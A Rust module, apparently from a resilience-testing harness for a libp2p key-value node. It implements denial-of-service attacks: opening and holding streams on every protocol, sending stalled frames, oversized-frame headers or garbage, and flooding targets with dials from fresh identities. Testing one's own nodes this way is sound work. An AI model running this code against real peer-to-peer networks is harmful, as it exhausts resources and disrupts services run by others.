//! Attacks below the protocols: streams that stall, frames that never end, dials without number.

use std::time::{Duration, Instant};

use futures::{AsyncReadExt as _, AsyncWriteExt as _, StreamExt as _};
use libp2p::swarm::SwarmEvent;
use libp2p::swarm::dial_opts::DialOpts;
use libp2p::{Multiaddr, PeerId, Stream, StreamProtocol, Swarm, identity, noise, tcp, yamux};
use swarmkv_node::network::peer_id_text;

use super::forge::Forger;
use super::{Report, Rogue};

/// Bytes that a giant frame claims.
const GIANT: u32 = 64 << 20;
/// Streams held open at once on one connection.
const HELD: usize = 48;

/// Every protocol that a member speaks, and the one that strangers may.
fn protocols(rogue: &Rogue) -> Vec<StreamProtocol> {
    let swarm = rogue.swarm.as_bytes();
    let tag: String = swarm[..8].iter().map(|byte| format!("{byte:02x}")).collect();
    let names = [
        "/swarmkv/join/1".to_owned(),
        "/swarmkv/id/1".to_owned(),
        "/ipfs/ping/1.0.0".to_owned(),
        format!("/swarmkv/{tag}/repair/1"),
        format!("/swarmkv/{tag}/kad/1"),
        format!("/swarmkv/{tag}/meshsub/1.1.0"),
    ];
    names.into_iter().filter_map(|name| StreamProtocol::try_from_owned(name).ok()).collect()
}

fn swarm(key: identity::Keypair) -> Result<Swarm<libp2p_stream::Behaviour>, String> {
    let builder = libp2p::SwarmBuilder::with_existing_identity(key)
        .with_tokio()
        .with_tcp(tcp::Config::default(), noise::Config::new, yamux::Config::default)
        .map_err(|e| e.to_string())?;
    let builder =
        builder.with_behaviour(|_| libp2p_stream::Behaviour::new()).map_err(|e| e.to_string())?;
    Ok(builder
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(600)))
        .build())
}

fn identity_of(rogue: &Rogue) -> Result<identity::Keypair, String> {
    identity::Keypair::ed25519_from_bytes(*rogue.key.seed()).map_err(|e| e.to_string())
}

fn target(rogue: &Rogue, which: usize) -> Result<(Multiaddr, PeerId), String> {
    let (addr, device) = &rogue.victims[which % rogue.victims.len()];
    let addr = addr.parse().map_err(|_| format!("not an address: {addr}"))?;
    let peer = peer_id_text(device).parse().map_err(|_| "not a peer id".to_owned())?;
    Ok((addr, peer))
}

/// Opens streams on every protocol and is a nuisance on each.
pub(super) async fn streams(rogue: &Rogue) -> Result<Report, String> {
    let mut swarm = swarm(identity_of(rogue)?)?;
    let mut control = swarm.behaviour().new_control();
    for which in 0..rogue.victims.len() {
        let (addr, peer) = target(rogue, which)?;
        let _ = swarm.dial(DialOpts::peer_id(peer).addresses(vec![addr]).build());
    }
    let running = tokio::spawn(async move {
        loop {
            swarm.select_next_some().await;
        }
    });
    tokio::time::sleep(Duration::from_millis(500)).await;
    let end = Instant::now() + rogue.time();
    let mut report = Report::default();
    let mut held: Vec<Stream> = Vec::new();
    let protocols = protocols(rogue);
    let pause = Duration::from_secs_f64(1.0 / rogue.orders.rate.max(1) as f64);
    while Instant::now() < end {
        let n = report.sent;
        let which = usize::try_from(n).unwrap_or(0);
        let (_, peer) = target(rogue, which / protocols.len())?;
        let protocol = protocols[which % protocols.len()].clone();
        let open =
            tokio::time::timeout(Duration::from_secs(2), control.open_stream(peer, protocol));
        report.sent += 1;
        if let Ok(Ok(mut stream)) = open.await {
            annoy(rogue, &mut stream, n).await;
            held.push(stream);
            if held.len() > HELD {
                drop(held.remove(0));
            }
        }
        tokio::time::sleep(pause).await;
    }
    running.abort();
    Ok(report)
}

async fn annoy(rogue: &Rogue, stream: &mut Stream, n: u64) {
    let bytes = match rogue.orders.attack.as_str() {
        // The start of a frame, and then nothing more, ever.
        "slow" => vec![0, 0, 1],
        "giant-frame" => [&GIANT.to_be_bytes()[..], &[0xbf; 4096]].concat(),
        _ => Forger::garbage(n),
    };
    let _ = stream.write_all(&bytes).await;
    let _ = stream.flush().await;
    // What comes back does not matter, but that it may come does.
    let mut byte = [0; 1];
    let _ = tokio::time::timeout(Duration::from_millis(1), stream.read(&mut byte)).await;
}

/// Dials again and again, each time as somebody else.
pub(super) async fn dials(rogue: &Rogue) -> Result<Report, String> {
    let end = Instant::now() + rogue.time();
    let mut report = Report::default();
    let mut crowd = Vec::new();
    let pause = Duration::from_secs_f64(1.0 / rogue.orders.rate.max(1) as f64);
    while Instant::now() < end {
        let mut swarm = swarm(identity::Keypair::generate_ed25519())?;
        let (addr, _) = target(rogue, usize::try_from(report.sent).unwrap_or(0))?;
        let options = DialOpts::unknown_peer_id().address(addr).allocate_new_port().build();
        report.sent += 1;
        if swarm.dial(options).is_ok() {
            crowd.push(tokio::spawn(async move {
                let until = tokio::time::sleep(Duration::from_secs(20));
                tokio::pin!(until);
                loop {
                    tokio::select! {
                        () = &mut until => break,
                        event = swarm.select_next_some() => {
                            let over = matches!(
                                event,
                                SwarmEvent::ConnectionClosed { .. }
                                    | SwarmEvent::OutgoingConnectionError { .. }
                            );
                            if over { break }
                        }
                    }
                }
            }));
        }
        tokio::time::sleep(pause).await;
    }
    for one in crowd {
        one.abort();
    }
    Ok(report)
}
